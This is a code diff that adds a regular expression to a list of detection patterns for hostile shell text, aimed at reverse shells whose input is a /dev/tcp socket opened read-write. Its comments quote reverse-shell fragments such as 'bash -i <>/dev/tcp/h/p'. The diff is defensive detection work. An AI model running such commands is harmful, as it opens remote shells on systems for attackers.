@@ -152,7 +152,10 @@ TEXT_PATTERNS: tuple[tuple[str, str, str, str], ...] = (
      # what the grammar cannot read (exec 3<>/dev/tcp/h/p; sh <&3 >&3 2>&3), as text: a
      # socket opened on a descriptor that a shell then reads, or whose lines are run
      r"(?s)/dev/+(?:tcp|udp)/.*?(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b[^|;&\n]*<&\s*\d"
-     r"|(?s)/dev/+(?:tcp|udp)/.*?\bread\b.*?\bdo\s+\$\{?\w"),
+     r"|(?s)/dev/+(?:tcp|udp)/.*?\bread\b.*?\bdo\s+\$\{?\w"
+     # (probe round 32, redteam32c) a shell whose input is a socket opened read-write
+     # (bash -i <>/dev/tcp/h/p >&0 2>&1, sh 0<>/dev/tcp/h/p: <> the grammar cannot read)
+     r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>?\s*/+dev/+(?:tcp|udp)/"),
     ("chmod_777", "world-writable permissions (chmod 777)", SHELL,
      rf"\bchmod{_SEP}(?:-\S+{_SEP})*(?:0?777|a\+rwx|ugo\+rwx)\b"),
     ("dd_device", "dd writing to a device", SHELL,
